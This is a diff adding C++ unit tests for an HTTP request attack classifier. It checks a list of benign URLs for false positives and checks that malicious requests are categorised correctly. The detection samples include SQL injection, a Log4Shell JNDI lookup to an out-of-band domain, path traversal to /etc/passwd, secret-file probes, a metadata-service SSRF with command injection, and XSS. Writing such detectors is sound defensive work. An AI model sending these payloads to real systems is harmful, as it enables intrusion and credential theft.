+       "Mozilla/5.0 (compatible; Let's Encrypt validation server; +https://www.letsencrypt.org)"},
+      {"/.well-known/security.txt"},
+      {"/apple-touch-icon.png", kSafari},
+      {"/manifest.json"},
+      {"/service-worker.js"},
+      {"/graphql?query=%7Buser(id%3A%225%22)%7Bname%7D%7D"},
+      {"/maps?ll=35.6812,139.7671&z=15"},
+      {"/track?e=pageview&p=%2Fnews%2F&r=https%3A%2F%2Fwww.google.com%2F"},
+      {"/video/watch?v=dQw4w9WgXcQ&t=42s"},
+      {"/weather?city=Osaka&units=metric"},
+      {"/recipes?ingredients=eggs%2Cmilk%2Cflour&diet=vegetarian"},
+      {"/compare?a=1&b=2&&c=3"},
+      {"/page?title=Don%27t+Stop+Me+Now"},
+      {"/select-plan?tier=union"},
+      {"/events?from=2024-01-01&to=2024-12-31&type=all"},
+      {"/products?sort=price;desc"},
+      {"/app;jsessionid=1A2B3C4D5E6F?x=1"},
+      {"/api/items?ids=1,2,3,4"},
+      {"/static/img/pic.jpg?w=300&h=200&fit=crop"},
+      {"/lang/ja.json"},
+      {"/env/production/banner.png"},
+      {"/git-guide/"},
+      {"/backup-policy.html"},
+      {"/docs/etc/overview.html"},
+      {"/admin/login"},
+      {"/user/profile?tab=security"},
+      {"/help/faq?topic=password-reset"},
+      {"/news?category=politics&page=3"},
+      {"/static/js/vendor/jquery-3.7.1.min.js"},
+      {"/static/js/chunk-vendors.js.map"},
+      {"/api/upload?name=photo+%281%29.jpg"},
+      {"/v1/metrics?labels=env%3Dprod%2Cregion%3Dap-northeast-1"},
+      {"/shop?price_min=10&price_max=100&order=asc"},
+      {"/tags/c%23"},
+      {"/wiki/Main_Page?action=history"},
+      {"/wiki/Special:Search?search=%22union+square%22"},
+      {"/wiki/L%27Or%C3%A9al"},
+      {"/map?q=Shibuya+%26+Harajuku"},
+      {"/?s=kyoto+temples"},
+      {"/?p=123"},
+      {"/?page_id=45&preview=true"},
+      {"/index.php?option=com_content&view=article&id=10&Itemid=101"},
+      {"/checkout?step=2&method=credit-card", kChrome, "https://shop.example.com/cart"},
+      {"/contact?subject=Question+about+order+%2312345"},
+      {"/sdk/docs/index.html"},
+      {"/remote/login", kChrome, "", "GET"},
+      {"/global-protect/login.esp"},
+      {"/owa/auth/logon.aspx?url=https%3a%2f%2fmail.example.com%2fowa%2f&reason=0"},
+      {"/health", "kube-probe/1.29"},
+      {"/status", "curl/8.5.0"},
+      {"/search?q=script+writing+course"},
+      {"/a/b/c.html", kChrome, "https://example.com/a/b/../c.html"},
+      {"/news/", kChrome, "https://www.bing.com/search?q=tokyo+weather&form=QBLH"},
+      {"/news/", kChrome, "https://www.google.co.jp/search?q=%E3%83%8B%E3%83%A5%E3%83%BC%E3%82%B9"},
+      {"/blog/posts/2023/12/year-in-review", kFirefox,
+       "https://news.ycombinator.com/item?id=38765432"},
+      {"/api/v1/feedback", kChrome, "", "POST"},
+      {"/upload", kChrome, "", "PUT"},
+      {"/docs/sql-guide/select-statement.html"},
+      {"/search?q=SELECT+statement+tutorial"},
+      {"/search?q=information+schema+design+course"},
+      {"/search?q=%E2%80%9Cquoted%E2%80%9D+text"},
+      {"/items?filter[status]=open&filter[owner]=me"},
+      {"/p?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback"},
+      {"/search?q=100%25+cotton"},
+      {"/search?q=50%+off"},
+      {"/search?q=a+%7C+b"},
+      {"/api/v1/"
+       "search?q=press&filter=%7B%22select%22:%5B%22id%22,%22name%22%5D,%22where%22:%7B%22active%"
+       "22:true%7D%7D"},
+      {"/search?q=file%3A%2F%2F+links+not+opening"},
+      {"/search?q=cat+%2Fetc%2Fhosts+explained", kFirefox},
+      {"/help?q=%24%7BHOME%7D+variable"},
+      {"/help?q=%7B%7B+template+%7D%7D+syntax"},
+      {"/list?back=..%2Flist.html"},
+      {"/docs/guide/../api/", "linkchecker/10.2"},
+      {"/list?sort=updated_at+DESC%2C+id+ASC"},
+      {"/sso?SAMLRequest=fZJNT8MwDIbvSPyHKvetbbpJKFo7jU1ITBuq2nLgloUkNhSpE5J0qqT%"
+       "2BPc4KsMPY1fHj97Xd5Wrf"},
+  };
+  ASSERT_GE(benign.size(), 80u);
+  for (const Req& r : benign) {
+    const Detection d = classify(r);
+    EXPECT_EQ(d.categories, 0) << "false positive: " << r.target << " | ua=" << r.userAgent
+                               << " | referer=" << r.referer << " -> " << describe(d);
+    EXPECT_FALSE(d.reconnaissanceOnly) << r.target;
+    EXPECT_EQ(d.cveCount, 0) << r.target;
+  }
+}
+
+// ------------------------------------------------------------------ detection semantics
+
+TEST_F(ClassifierSemantics, ScannerWithPayloadIsNotReconnaissance) {
+  Detection d = classify({"/p?id=1%20union%20select%20null,null--", "sqlmap/1.7.2#stable"});
+  EXPECT_TRUE(hasCategory(d.categories, Category::kScanner));
+  EXPECT_TRUE(hasCategory(d.categories, Category::kSqli));
+  EXPECT_FALSE(d.reconnaissanceOnly);
+
+  d = classify({"/.env", "Mozilla/5.0 zgrab/0.x"});
+  EXPECT_TRUE(hasCategory(d.categories, Category::kScanner));
+  EXPECT_TRUE(hasCategory(d.categories, Category::kSensitiveFile));
+  EXPECT_FALSE(d.reconnaissanceOnly);
+
+  // An out-of-band domain inside a JNDI lookup is an exploitation attempt, not a probe.
+  d = classify({"/", "${jndi:ldap://abc.oastify.com/a}"});
+  EXPECT_TRUE(hasCategory(d.categories, Category::kLog4shell));
+  EXPECT_FALSE(d.reconnaissanceOnly);
+}
+
+TEST_F(ClassifierSemantics, NothingMatchedIsNotReconnaissance) {
+  const Detection d = classify({"/index.html"});
+  EXPECT_EQ(d.categories, 0);
+  EXPECT_FALSE(d.reconnaissanceOnly);
+}
+
+TEST_F(ClassifierSemantics, SensitiveFileProbesAreNotReconnaissance) {
+  // A successful fetch of .env or .git/config leaks secrets; the outcome decides whether it did.
+  for (std::string_view t : {"/.env", "/.git/config", "/backup.zip", "/wp-config.php.bak"}) {
+    const Detection d = classify({t});
+    EXPECT_TRUE(hasCategory(d.categories, Category::kSensitiveFile)) << t;
+    EXPECT_FALSE(d.reconnaissanceOnly) << t;
+  }
+}
+
+TEST_F(ClassifierSemantics, RuleIdsPointAtRulesOfTheirCategory) {
+  const auto rules = Classifier::rules();
+  const std::vector<Req> sample = {
+      {"/../../etc/passwd"},
+      {"/vpn/../vpns/cfg/smb.conf"},
+      {"/?x=${jndi:ldap://x/a}&y=<script>"},
+      {"/fetch?url=http://169.254.169.254/&cmd=;id"},
+  };
+  for (const Req& r : sample) {
+    const Detection d = classify(r);
+    ASSERT_NE(d.categories, 0) << r.target;
+    for (std::size_t c = 0; c < kCategoryCount; ++c) {
+      const bool set = hasCategory(d.categories, static_cast<Category>(c));
+      EXPECT_EQ(set, d.ruleIds[c] != 0) << r.target << " category " << c;
+      if (!set) continue;
+      const auto it = std::find_if(rules.begin(), rules.end(),
+                                   [&](const RuleInfo& ri) { return ri.id == d.ruleIds[c]; });
+      ASSERT_NE(it, rules.end()) << d.ruleIds[c];
+    }
+  }
+}
+
+TEST_F(ClassifierSemantics, ClimbingAboveRootIsItsOwnRule) {
+  const Detection d = classify({"/../x"});
+  EXPECT_TRUE(hasCategory(d.categories, Category::kPathTraversal)) << describe(d);
+}
+
+TEST_F(ClassifierSemantics, CvesAreDedupedAndBounded) {
+  // Several rules name CVE-2019-19781 here; it is listed once.
+  Detection d = classify({"/vpn/../vpns/portal/scripts/newbm.pl"});
+  EXPECT_EQ(std::count(d.cves.begin(), d.cves.begin() + d.cveCount, "CVE-2019-19781"), 1);
+  // Many CVEs in one request: at most kMaxDetectionCves are kept, all distinct.
+  d =
+      classify({"/vpn/../vpns/cfg/smb.conf?a=/remote/fgt_lang?lang=..&b=class.module.classloader"
+                "&c=autodiscover.json?@x&d=\\think\\&e=bootstrapstatusprovider.applicationconfig."
+                "setupcomplete&f=ajax/render/widget_php"});
+  EXPECT_EQ(d.cveCount, kMaxDetectionCves);
+  std::set<std::string_view> distinct(d.cves.begin(), d.cves.begin() + d.cveCount);
+  EXPECT_EQ(distinct.size(), d.cveCount);
+}
+
+TEST_F(ClassifierSemantics, ReusedDetectionIsReset) {
+  Detection d;
+  HttpRequestLine line;
+  line.method = "GET";
+  line.target = "/?q=<script>alert(1)</script>";
+  NormalizedRequest n;
+  normalizeTarget(line.target, n);
+  classifier_->classify(line, n, d);
+  ASSERT_TRUE(hasCategory(d.categories, Category::kXss));
+  line.target = "/index.html";
+  normalizeTarget(line.target, n);
+  classifier_->classify(line, n, d);
+  EXPECT_EQ(d.categories, 0);
+  EXPECT_EQ(d.ruleIds[static_cast<std::size_t>(Category::kXss)], 0u);
+}
+
+TEST_F(ClassifierSemantics, EmptyAndDashFieldsAreFine) {
+  HttpRequestLine line;  // everything empty, as for a malformed log line
+  NormalizedRequest n;
+  normalizeTarget(line.target, n);
+  Detection d;
+  classifier_->classify(line, n, d);
+  EXPECT_EQ(d.categories, 0);
+  line.userAgent = "-";
+  line.referer = "-";
+  classifier_->classify(line, n, d);
+  EXPECT_EQ(d.categories, 0);
+}
+
+}  // namespace
+}  // namespace mamori::detect
